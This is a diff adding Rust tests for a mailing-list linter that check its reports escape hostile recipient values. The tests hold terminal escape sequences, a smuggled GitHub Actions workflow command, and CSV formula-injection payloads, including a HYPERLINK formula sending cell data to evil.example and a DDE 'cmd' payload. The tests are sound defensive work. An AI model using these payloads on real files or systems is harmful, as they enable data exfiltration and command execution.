@@ -1,0 +1,131 @@
+//! Values from the list (and the draft) are the sender's data: they must not
+//! drive the terminal, start a CI workflow command, run as a spreadsheet
+//! formula, or change what a verdict says. Each test is named after what
+//! broke.
+
+use std::path::Path;
+use std::process::Output;
+
+use assert_cmd::Command;
+
+const DRAFT: &str = "From: Shop <news@shop.example>\r\nTo: news@shop.example\r\n\
+Subject: Hallo {{ first_name }}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
+Beste {{ first_name }}, afmelden: {{ unsubscribe_url }}\r\n";
+
+fn mailgate(dir: &Path, args: &[&str]) -> Output {
+    Command::cargo_bin("mailgate")
+        .unwrap()
+        .current_dir(dir)
+        .args(args)
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap()
+}
+
+/// A folder with `r.csv` (the given bytes) and the draft `d.eml`.
+fn case(csv: &[u8]) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("r.csv"), csv).unwrap();
+    std::fs::write(dir.path().join("d.eml"), DRAFT).unwrap();
+    dir
+}
+
+const LINT: &[&str] = &[
+    "lint",
+    "--recipients",
+    "r.csv",
+    "--draft",
+    "d.eml",
+    "--product",
+    "bbq",
+];
+
+fn lint(dir: &Path, more: &[&str]) -> Output {
+    let args: Vec<&str> = LINT.iter().chain(more).copied().collect();
+    mailgate(dir, &args)
+}
+
+/// Addresses carrying a terminal title escape, a screen clear, and a line
+/// break followed by a GitHub Actions workflow command; the header names an
+/// unused column with the same (column names are shown even in redacted
+/// reports). Padded with ordinary rows, as in a real list: a file that is
+/// mostly control characters is refused as binary.
+fn hostile_csv() -> Vec<u8> {
+    let mut csv = b"email,first_name,\"note\x1b]0;pwned\x07\n::warning file=x.rs::hi\"\n\
+\"evil\x1b]0;pwned\x07@example.nl\",Jan,x\n\
+\"clear\x1b[2J@example.nl\",Kees,x\n\
+\"a\n::warning file=x.rs::owned@example.nl\",Piet,x\n"
+        .to_vec();
+    for i in 0..40 {
+        csv.extend(format!("person{i}@example.nl,Person,x\n").bytes());
+    }
+    csv
+}
+
+fn assert_no_raw_controls(format: &str, stdout: &[u8]) {
+    let text = String::from_utf8_lossy(stdout);
+    assert!(
+        !text.contains('\x1b'),
+        "--format {format} passes ESC: {text}"
+    );
+    assert!(
+        !text.contains('\x07'),
+        "--format {format} passes BEL: {text}"
+    );
+    assert!(
+        !text.lines().any(|l| l.starts_with("::warning file=x.rs")),
+        "--format {format} lets a value start a workflow command: {text}"
+    );
+}
+
+#[test]
+fn terminal_escapes_in_list_values_reach_the_human_report_raw() {
+    let dir = case(&hostile_csv());
+    let output = lint(dir.path(), &[]);
+    assert_eq!(output.status.code(), Some(1));
+    assert_no_raw_controls("human", &output.stdout);
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("evil\\x1b]0;pwned\\x07@example.nl"), "{text}");
+    assert!(text.contains("a\\n::warning file=x.rs::owned"), "{text}");
+}
+
+#[test]
+fn a_line_break_in_a_value_starts_a_github_workflow_command() {
+    let dir = case(&hostile_csv());
+    for format in ["github", "junit"] {
+        let output = lint(dir.path(), &["--format", format]);
+        assert_eq!(output.status.code(), Some(1), "{format}");
+        assert_no_raw_controls(format, &output.stdout);
+        let text = String::from_utf8_lossy(&output.stdout);
+        assert!(text.contains("note\\x1b]0;pwned"), "{format}: {text}");
+    }
+}
+
+#[test]
+fn formulas_in_the_list_are_written_unescaped_to_report_and_sendable_csv() {
+    let dir = case(
+        b"email,first_name,consent_at,consent_source\n\
+          =HYPERLINK(\"http://evil.example/?\"&A2),Jan,2026-01-01,form\n\
+          piet@example.nl,@SUM(A1:A9),2026-01-01,form\n\
+          kees@example.nl,=1+2,2026-01-01,form\n\
+          joop@example.nl,-2+3+cmd|' /C calc'!A0,2026-01-01,form\n\
+          anna@example.nl,-5,2026-01-01,form\n",
+    );
+    let output = lint(
+        dir.path(),
+        &["--report-out", "report.csv", "--sendable-out", "clean.csv"],
+    );
+    assert_ne!(output.status.code(), Some(2), "{output:?}");
+    let report = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
+    assert!(
+        report.contains("'=HYPERLINK("),
+        "report.csv keeps a formula: {report}"
+    );
+    let clean = std::fs::read_to_string(dir.path().join("clean.csv")).unwrap();
+    for cell in ["'@SUM(A1:A9)", "'=1+2", "'-2+3+cmd|"] {
+        assert!(clean.contains(cell), "clean.csv lacks {cell}: {clean}");
+    }
+    // A negative number is no formula and stays as it was.
+    assert!(clean.contains(",-5,"), "{clean}");
+    assert!(!clean.contains("'-5"), "{clean}");
+}
